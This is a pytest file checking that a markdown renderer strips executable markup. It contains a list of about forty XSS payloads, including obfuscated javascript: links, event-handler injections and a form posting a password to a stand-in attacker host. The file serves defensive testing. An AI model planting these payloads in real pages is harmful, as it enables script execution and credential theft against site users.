from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from core.safe_markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render_markdown

# Each of these has got past some sanitiser somewhere; none may reach a page.
ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script split by a script": "<scr<script>ipt>alert(1)</script>",
    "script inside script": "<<script>script>alert(1)<</script>/script>",
    "script in upper case": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "onerror on an image": "<img src=x onerror=alert(1)>",
    "onclick on a link": '<a href="https://ok.example/" onclick="alert(1)">ok</a>',
    "svg onload": "<svg onload=alert(1)>",
    "svg with script": "<svg><script>alert(1)</script></svg>",
    "math with a javascript link": "<math><mi xlink:href='javascript:alert(1)'>m</mi></math>",
    "details ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "markdown javascript link": "[x](javascript:alert(1))",
    "markdown javascript link in mixed case": "[x](JaVaScRiPt:alert(1))",
    "markdown link with spaces": "[x]( javascript:alert(1) )",
    "markdown reference link": "[x][1]\n\n[1]: javascript:alert(1)",
    "markdown image with javascript": "![x](javascript:alert(1))",
    "markdown image with an onerror title": '![x](https://a.example/x.png "a" onerror="alert(1)")',
    "markdown data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "markdown entity-encoded javascript": "[a](&#x6A;avascript:alert(1))",
    "html entity-encoded javascript": '<a href="&#106;avascript:alert(1)">x</a>',
    "fully encoded javascript": '<a href="' + "".join(f"&#x{ord(c):X}" for c in "javascript:") + 'x()">e</a>',
    "named colon entity": '<a href="javascript&colon;alert(1)">c</a>',
    "tab inside the scheme": '<a href="java&#9;script:alert(1)">t</a>',
    "newline inside the scheme": '<a href="java&#x0A;script:alert(1)">n</a>',
    "leading control character": '<a href="\x01javascript:alert(1)">c</a>',
    "leading space": "<a href=' javascript:alert(1)'>s</a>",
    "vbscript": '<a href="vbscript:msgbox(1)">v</a>',
    "data svg link": '<a href="data:image/svg+xml,<svg onload=alert(1)>">d</a>',
    "iframe": "<iframe src='https://evil.example/'></iframe>",
    "iframe with srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object and embed": "<object data=x></object><embed src=x>",
    "style element": "<style>body{background:url(javascript:alert(1))}</style>",
    "style attribute": "<p style=\"background:url('javascript:alert(1)')\">s</p>",
    "form": "<form action=https://evil.example/><input name=password><button>Go</button></form>",
    "base": "<base href='https://evil.example/'>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "link stylesheet": "<link rel=stylesheet href=https://evil.example/x.css>",
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "comment": "<!-- --><script>alert(1)</script> -->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "table background": "<table><tr><td background='javascript:alert(1)'>x</td></tr></table>",
    "target and opener": '<a href="https://ok.example/" target="_blank" rel="opener">t</a>',
    "id and class": '<p id="main" class="admin">clobber</p>',
}
SAFE_SCHEMES = {"http", "https", "mailto", ""}


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def elements_of(html: str) -> list[tuple[str, dict[str, str | None]]]:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.elements


def assert_only_safe_markup(html: str) -> None:
    lowered = html.lower()
    for forbidden in ("<script", "<iframe", "<svg", "<style", "<img", "<object", "<embed", "<form", "javascript:"):
        assert forbidden not in lowered, f"{forbidden} in {html!r}"
    for tag, attributes in elements_of(html):
        assert tag in ALLOWED_TAGS, f"<{tag}> in {html!r}"
        for name, value in attributes.items():
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set()), name
            assert not name.startswith("on")
            if name == "href":
                # The browser ignores tabs and newlines in a URL, so a sanitiser must too.
                scheme = urlsplit("".join(value.split())).scheme.lower()
                assert scheme in SAFE_SCHEMES, f"{scheme}: in {html!r}"


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
def test_nothing_executable_reaches_the_output(text):
    assert_only_safe_markup(render_markdown(text))


def test_all_attacks_in_one_story_body_leave_only_safe_markup():
    body = "\n\n".join(f"Paragraph about {name}.\n\n{attack}" for name, attack in ATTACKS.items())
    html = render_markdown(body)
    assert_only_safe_markup(html)
    assert "Paragraph about iframe." in html


def test_links_keep_a_safe_address_and_never_open_the_page_to_the_target():
    html = render_markdown('[ASEAN](https://asean.org/ "ASEAN") and <a href="/stories/" target="_blank">stories</a>')
    assert '<a href="https://asean.org/" title="ASEAN" rel="noopener noreferrer nofollow">ASEAN</a>' in html
    assert '<a href="/stories/" rel="noopener noreferrer nofollow">stories</a>' in html


def test_a_dangerous_link_keeps_its_text_and_loses_its_address():
    assert str(render_markdown("[Read more](javascript:alert(1))")) == (
        '<p><a rel="noopener noreferrer nofollow">Read more</a></p>'
    )


def test_ordinary_markdown_still_reads_as_written():
    html = render_markdown(
        "## Career\n\nShe became **Director** in *2016*.\n\n> A quote\n\n- one\n- two\n\n1. first\n\n`code` and 5 < 6"
    )
    assert "<h2>Career</h2>" in html
    assert "<strong>Director</strong>" in html and "<em>2016</em>" in html
    assert "<blockquote>" in html and "<ul>" in html and "<ol>" in html
    assert "<code>code</code>" in html
    assert "5 &lt; 6" in html


def test_script_written_as_code_is_shown_as_text():
    html = render_markdown("Type `<script>alert(1)</script>` to see it.")
    assert "<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>" in html
